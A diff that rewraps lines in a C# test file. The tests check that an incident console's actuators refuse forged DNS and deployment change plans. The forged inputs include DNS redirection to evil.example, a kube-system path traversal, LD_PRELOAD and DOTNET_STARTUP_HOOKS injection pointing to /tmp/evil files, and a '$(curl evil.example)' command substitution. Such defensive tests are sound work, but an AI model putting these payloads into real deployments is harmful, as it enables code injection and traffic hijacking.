@@ -10,7 +10,8 @@ using Microsoft.Extensions.DependencyInjection;
 namespace IncidentConsole.Web.Tests.Operations;
 
 /// <summary>
-/// Every actuator and procedure that the program registers, found and not named: each refuses what the configuration does not name. A new one without a
+/// Every actuator and procedure that the program registers, found and not named: each refuses what the configuration does not name. A new
+/// one without a
 /// forgery here, or that takes one, is red.
 /// </summary>
 public sealed class ScopeTests : IAsyncDisposable
@@ -21,12 +22,15 @@ public sealed class ScopeTests : IAsyncDisposable
     // Nothing is started, and nothing of this is ever reached: what is foreign is refused before any call.
     private readonly WebApplication app = ConsoleApp.Build(TestConsole.Arguments(
     [
-        "Dns:Nameservers:0=127.0.0.1:1", "Dns:Resolvers:0=127.0.0.1:1", "Dns:Route53:HostedZoneId=Z1", "Dns:Route53:ServiceUrl=http://127.0.0.1:1", "Dns:Route53:AccessKey=a", "Dns:Route53:SecretKey=s",
+        "Dns:Nameservers:0=127.0.0.1:1", "Dns:Resolvers:0=127.0.0.1:1", "Dns:Route53:HostedZoneId=Z1",
+            "Dns:Route53:ServiceUrl=http://127.0.0.1:1", "Dns:Route53:AccessKey=a", "Dns:Route53:SecretKey=s",
         "Backends:Tenant=t", "Backends:UserPath:Url=http://127.0.0.1:1", "Backends:UserPath:Resolvers:0=127.0.0.1:1",
         .. new[] { "eu-west", "us-east" }.SelectMany(region => new[]
         {
-            $"Kubernetes:Regions:{region}:Server=http://127.0.0.1:1", $"Redis:Regions:{region}:Connection=127.0.0.1:1", $"WarmStore:Regions:{region}:ConnectionString=Host=127.0.0.1;Port=1",
-            $"Wal:Regions:{region}:Bucket=b", $"Wal:Regions:{region}:ServiceUrl=http://127.0.0.1:1", $"Backends:Regions:{region}:Url=http://127.0.0.1:1", $"Prometheus:Regions:{region}:Url=http://127.0.0.1:1",
+            $"Kubernetes:Regions:{region}:Server=http://127.0.0.1:1", $"Redis:Regions:{region}:Connection=127.0.0.1:1",
+                $"WarmStore:Regions:{region}:ConnectionString=Host=127.0.0.1;Port=1",
+            $"Wal:Regions:{region}:Bucket=b", $"Wal:Regions:{region}:ServiceUrl=http://127.0.0.1:1",
+                $"Backends:Regions:{region}:Url=http://127.0.0.1:1", $"Prometheus:Regions:{region}:Url=http://127.0.0.1:1",
         }),
     ]));
 
@@ -40,8 +44,10 @@ public sealed class ScopeTests : IAsyncDisposable
         Assert.Equal(Of<IActuator>(), Actuators.Select(each => each.GetType().Name).Order(StringComparer.Ordinal));
         Assert.Equal(Of<IProcedure>(), Procedures.Select(each => each.GetType().Name).Order(StringComparer.Ordinal));
 
-        static IEnumerable<string> Of<T>() => new[] { typeof(IActuator).Assembly, typeof(IDependency).Assembly }.SelectMany(assembly => assembly.GetTypes())
-            .Where(type => type is { IsClass: true, IsAbstract: false } && type.IsAssignableTo(typeof(T))).Select(type => type.Name).Order(StringComparer.Ordinal);
+        static IEnumerable<string> Of<T>() => new[] { typeof(IActuator).Assembly, typeof(IDependency).Assembly }.SelectMany(assembly =>
+            assembly.GetTypes())
+            .Where(type => type is { IsClass: true, IsAbstract: false } && type.IsAssignableTo(typeof(T))).Select(type => type.Name)
+                .Order(StringComparer.Ordinal);
     }
 
     [Fact]
@@ -55,8 +61,10 @@ public sealed class ScopeTests : IAsyncDisposable
             {
                 Assert.True(actuator.Forbids(change) is not null, $"{actuator.GetType().Name} takes a forged plan: {what}");
                 // Asked once more just before the effect, and before anything is called: an unreachable other side would be "unavailable".
-                var refused = await Record.ExceptionAsync(() => actuator.ApplyAsync(change, (_, _) => Task.CompletedTask, TestContext.Current.CancellationToken));
-                Assert.True(refused is ActuatorRefusedException, $"{actuator.GetType().Name} begins with a forged plan: {what}: {refused?.Message}");
+                var refused = await Record.ExceptionAsync(() =>
+                    actuator.ApplyAsync(change, (_, _) => Task.CompletedTask, TestContext.Current.CancellationToken));
+                Assert.True(refused is ActuatorRefusedException,
+                    $"{actuator.GetType().Name} begins with a forged plan: {what}: {refused?.Message}");
             }
         }
     }
@@ -97,24 +105,29 @@ public sealed class ScopeTests : IAsyncDisposable
                 ("a region's name", own with { Target = own.Target with { Region = World.EuWest } }),
                 ("another destination", Dns(first with { Values = ["evil.example"] })),
                 ("another destination beside", Dns(first with { Values = [.. first.Values, "evil.example"] })),
-                ("one more record", own with { After = new DnsState([.. after.Records, first with { SetIdentifier = "x", Values = ["evil.example"], Weight = 255 }]) }),
+                ("one more record", own with { After = new DnsState([.. after.Records, first
+                    with { SetIdentifier = "x", Values = ["evil.example"], Weight = 255 }]) }),
                 ("a record of another name", Dns(first with { Name = "bank.example.com" })),
                 ("a longer life", Dns(first with { TimeToLive = 604_800 })),
                 ("another type", Dns(first with { Type = "TXT" })),
                 ("another health check", Dns(first with { HealthCheckId = "evil" })),
                 ("no records at all", own with { After = new DnsState([]) }),
-                ("somebody else's record gone", own with { Before = new DnsState([.. before.Records, first with { SetIdentifier = "fallback", Values = ["static.example.com"] }]) }),
+                ("somebody else's record gone", own
+                    with { Before = new DnsState([.. before.Records, first
+                    with { SetIdentifier = "fallback", Values = ["static.example.com"] }]) }),
                 ("the state of something else", own with { After = Deployed }),
             ]);
             Change Dns(DnsRecordSet record) => own with { After = new DnsState(after.Records.SetItem(0, record)) };
 
-            var switched = new Change(new(Target.Deployment, World.EuWest, Policy.Deployment), Deployed, Deployed.With(Policy.DegradedModeVariable, "true"));
+            var switched = new Change(new(Target.Deployment, World.EuWest, Policy.Deployment), Deployed,
+                Deployed.With(Policy.DegradedModeVariable, "true"));
             yield return (switched,
             [
                 ("another deployment", switched with { Target = switched.Target with { Name = "payments" } }),
                 ("another namespace", switched with { Target = switched.Target with { Name = "../../kube-system/deployments/coredns" } }),
                 ("another variable", switched with { After = Deployed.With("LD_PRELOAD", "/tmp/evil.so") }),
-                ("one more variable", switched with { After = Deployed.With(Policy.DegradedModeVariable, "true").With("DOTNET_STARTUP_HOOKS", "/tmp/evil.dll") }),
+                ("one more variable", switched with { After = Deployed.With(Policy.DegradedModeVariable, "true")
+                    .With("DOTNET_STARTUP_HOOKS", "/tmp/evil.dll") }),
                 ("a variable taken away", switched with { Before = Deployed.With("PATH", "/bin"), After = Deployed }),
                 ("another value", switched with { After = Deployed.With(Policy.DegradedModeVariable, "$(curl evil.example)") }),
                 ("too many replicas", switched with { After = Deployed with { Replicas = 1_000_000 } }),
@@ -124,7 +137,8 @@ public sealed class ScopeTests : IAsyncDisposable
     }
 
     private static ProcedureCall Call(IProcedure procedure, string region) =>
-        new(procedure.Name, new(region), procedure.Scope.Arguments.ToImmutableSortedDictionary(argument => argument.Name, argument => argument.Kind switch
+        new(procedure.Name, new(region), procedure.Scope.Arguments.ToImmutableSortedDictionary(argument => argument.Name, argument =>
+            argument.Kind switch
         {
             ArgumentKind.Region => "us-east",
             ArgumentKind.Incident => "7",
